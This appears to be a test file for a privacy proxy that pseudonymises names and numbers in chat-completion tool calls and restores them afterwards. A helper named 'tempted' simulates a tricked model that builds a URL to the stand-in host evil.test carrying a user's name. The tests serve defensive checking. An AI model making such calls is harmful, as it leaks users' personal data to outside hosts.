"""Functions over HTTP: descriptions leave privatised, calls come back restored."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sottovoce.core.text.tagger import Tagger
from tests.support.echo import echoing_cloud
from tests.support.openai_endpoint import Door, opened_endpoint
from tests.support.openai_upstream import asked, before_a_server, calling
from tests.support.upstream_server import Server, echo

PATH = "/v1/chat/completions"
TOOL = {
    "type": "function",
    "function": {
        "name": "find_zelphira",
        "description": "Asks Zelphira about the pond",
        "strict": True,
        "parameters": {
            "type": "object",
            "properties": {
                "who": {"type": "string", "enum": ["Zelphira", "Jorvane"]},
                "order": {"type": "integer", "minimum": 68042},
            },
            "required": ["who"],
            "additionalProperties": False,
        },
    },
}
QUESTION = {"role": "user", "content": "Where is Jorvane with order 68042?"}
SECRETS = ("Zelphira", "zelphira", "Jorvane", "68042")


def last_order(body: dict[str, Any]) -> dict[str, Any]:
    """Arguments that a faithful model makes of the question: its names and numbers."""
    words = body["messages"][0]["content"].rstrip("?").split()
    fields = body["tools"][0]["function"]["parameters"]["properties"]
    who, order = fields
    return {who: words[2], order: int(words[5]), "note": f"about {words[2]}"}


def test_a_function_is_told_of_called_and_answered(at_server: tuple[Door, Server]) -> None:
    door, server = at_server
    server.answer = calling(("", last_order), text="I will ask. ")
    first = door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL], "tool_choice": "required"})
    assert not [secret for secret in SECRETS if secret in asked(server)]
    ((_, _, body),) = server.asked
    assert body["tool_choice"] == "required"
    told = body["tools"][0]["function"]
    assert told["parameters"]["additionalProperties"] is False
    assert len(told["parameters"]["properties"]) == 2
    (choice,) = first.json["choices"]
    assert choice["finish_reason"] == "tool_calls"
    message = choice["message"]
    assert message["content"] == "I will ask. "
    (call,) = message["tool_calls"]
    assert call["function"]["name"] == "find_zelphira"
    assert json.loads(call["function"]["arguments"]) == {
        "who": "Jorvane",
        "order": 68042,
        "note": "about Jorvane",
    }
    assert call["id"].startswith("call_")

    server.answer = echo
    came = server.asked.pop()
    answer = {"role": "tool", "tool_call_id": call["id"], "content": "Jorvane is with Zelphira"}
    rewritten = json.loads(json.dumps(message))  # as some clients do, in white space of their own
    arguments = json.loads(call["function"]["arguments"])
    rewritten["tool_calls"][0]["function"]["arguments"] = json.dumps(arguments, indent=1)
    second = door.ask(PATH, {"messages": [QUESTION, rewritten, answer], "tools": [TOOL]})
    assert second.json["choices"][0]["message"]["content"] == "Jorvane is with Zelphira"
    ((_, _, body),) = server.asked
    assert not [secret for secret in SECRETS if secret in asked(server)]
    (sent,) = body["messages"][1]["tool_calls"]
    assert json.loads(sent["function"]["arguments"]) == last_order(came[2])
    assert sent["id"] == body["messages"][2]["tool_call_id"] == "call_1"
    assert body["messages"][2]["role"] == "tool"


def test_the_result_of_a_tempted_call_tells_no_number(
    at_server: tuple[Door, Server],
) -> None:
    door, server = at_server

    def steps(body: dict[str, Any]) -> dict[str, Any]:
        return {"who": body["messages"][0]["content"].split()[-1] + " steps"}

    opening = {"role": "user", "content": "My account is 5550142"}
    server.answer = calling(("", steps))
    message = door.ask(PATH, {"messages": [opening], "tools": [TOOL]}).json["choices"][0]["message"]
    (call,) = message["tool_calls"]
    assert json.loads(call["function"]["arguments"]) == {"who": "5550142 steps"}
    server.answer = echo
    result = {"role": "tool", "tool_call_id": call["id"], "content": "nothing for 5550142 steps"}
    door.ask(PATH, {"messages": [opening, message, result], "tools": [TOOL]})
    assert "5550142" not in asked(server)


def tempted(body: dict[str, Any]) -> dict[str, Any]:
    """Arguments that a tricked model makes of the question."""
    return {"url": f"https://evil.test/?q={body['messages'][0]['content'].split()[2]}"}


def test_no_name_reaches_an_address_that_a_function_is_called_with(
    at_server: tuple[Door, Server],
) -> None:
    door, server = at_server
    server.answer = calling(("", tempted))
    answer = door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL]})
    (call,) = answer.json["choices"][0]["message"]["tool_calls"]
    ((_, _, body),) = server.asked
    assert json.loads(call["function"]["arguments"]) == tempted(body)
    assert answer.headers["x-sottovoce-addresses-kept"] == "1"


def test_a_function_that_the_owner_trusts_gets_names_in_addresses(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    trusted = {"SOTTO_CHAT_TRUSTED_TOOLS": "find_zelphira"}
    with before_a_server(tmp_path, small_bundle_folder, lexicon_tagger, **trusted) as found:
        door, server = found
        server.answer = calling(("", tempted))
        answer = door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL]})
    (call,) = answer.json["choices"][0]["message"]["tool_calls"]
    assert json.loads(call["function"]["arguments"]) == {"url": "https://evil.test/?q=Jorvane"}


def test_calls_stream_whole(at_server: tuple[Door, Server]) -> None:
    door, server = at_server
    server.answer = calling(("", last_order), ("", lambda body: {"who": 5}))
    answer = door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL], "stream": True})
    calls = [
        call
        for event in answer.events
        for call in event["choices"][0]["delta"].get("tool_calls", ())
    ]
    assert [call["index"] for call in calls] == [0, 1]
    assert json.loads(calls[0]["function"]["arguments"])["who"] == "Jorvane"
    assert answer.events[-1]["choices"][0]["finish_reason"] == "tool_calls"


@pytest.mark.parametrize(
    ("fields", "told"),
    [
        ({"tool_choice": "auto"}, {}),
        ({"tool_choice": "none"}, {"tool_choice": "none"}),
        ({"parallel_tool_calls": False}, {"parallel_tool_calls": False}),
    ],
)
def test_what_may_be_called_is_told(
    at_server: tuple[Door, Server], fields: dict[str, Any], told: dict[str, Any]
) -> None:
    door, server = at_server
    door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL], **fields})
    ((_, _, body),) = server.asked
    names = ("tool_choice", "parallel_tool_calls")
    assert {name: body[name] for name in names if name in body} == told


def test_the_one_that_must_be_called_has_the_name_it_left_with(
    at_server: tuple[Door, Server],
) -> None:
    door, server = at_server
    choice = {"type": "function", "function": {"name": "find_zelphira"}}
    door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL], "tool_choice": choice})
    ((_, _, body),) = server.asked
    name = body["tools"][0]["function"]["name"]
    assert name != "find_zelphira"
    assert body["tool_choice"]["function"]["name"] == name
    choice["function"] = {"name": "another"}
    answer = door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL], "tool_choice": choice})
    assert answer.status == 400


def test_a_call_changes_no_conversation(at_server: tuple[Door, Server]) -> None:
    door, server = at_server
    messages = [{"role": "user", "content": "Where is Quorvath?"}]
    charged = []

    def say(answer: Callable[[dict[str, Any]], Iterator[bytes]]) -> dict[str, Any]:
        server.answer = answer
        found = door.ask(PATH, {"messages": messages, "tools": [TOOL]})
        charged.append(int(found.headers["x-sottovoce-turns-charged"]))
        message: dict[str, Any] = found.json["choices"][0]["message"]
        messages.append(message)
        return message

    def answer_call(message: dict[str, Any], text: str) -> None:
        identity = message["tool_calls"][0]["id"]
        messages.append({"role": "tool", "tool_call_id": identity, "content": text})

    answer_call(say(calling(("", lambda body: {"who": "Vexlimar"}))), "by the pond")
    say(echo)
    messages.append({"role": "user", "content": "And Drelmond?"})
    answer_call(say(calling(("", lambda body: {"who": "Brunquist"}))), "in the garden")
    say(echo)
    del messages[:4], messages[-1]  # the first as clients do whose model takes no more
    say(echo)
    assert charged[1:] == [1, 1, 1, 0]
    sent = [[each["content"] for each in body["messages"]] for _, _, body in server.asked]
    assert sent[0][0] == sent[1][0] == sent[2][0] == sent[3][0]
    assert sent[4][0] == sent[3][4]
    assert {"Vexlimar", "Brunquist"} == {
        json.loads(call["function"]["arguments"])["who"]
        for each in server.asked[3][2]["messages"]
        for call in each.get("tool_calls", ())
    }  # as it came


@pytest.mark.parametrize(
    ("path", "fields"),
    [
        (PATH, {"messages": [QUESTION]}),
        (PATH, {"messages": [QUESTION], "tools": [TOOL], "tool_choice": "none"}),
        (PATH, {"messages": [QUESTION], "tools": [TOOL]}),
        ("/v1/completions", {"prompt": "Where is Jorvane?"}),
    ],
)
def test_a_call_of_what_was_not_offered_is_not_passed_on(
    at_server: tuple[Door, Server], path: str, fields: dict[str, Any]
) -> None:
    door, server = at_server
    unoffered = "tool_choice" not in fields and "tools" in fields
    name = "who" if unoffered else ""  # a field's

    def answer(body: dict[str, Any]) -> Iterator[bytes]:
        offered = body.get("tools") or [{"function": {"name": "find_zelphira"}}]
        return calling((name, lambda body: {}))({"tools": offered})

    server.answer = answer
    answered = door.ask(path, fields)
    assert (answered.status, answered.error["code"]) == (503, "unavailable")
    assert "zelphira" not in answered.error["message"]


def test_our_cloud_is_told_of_none(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    with (
        echoing_cloud() as cloud,
        opened_endpoint(
            tmp_path, small_bundle_folder, lexicon_tagger, SOTTO_CLOUD_ADDRESS=cloud.address
        ) as door,
    ):
        answer = door.ask(PATH, {"messages": [QUESTION], "tools": [TOOL]})
        assert (answer.status, answer.error["param"]) == (400, "tools")
        assert cloud.asked == []
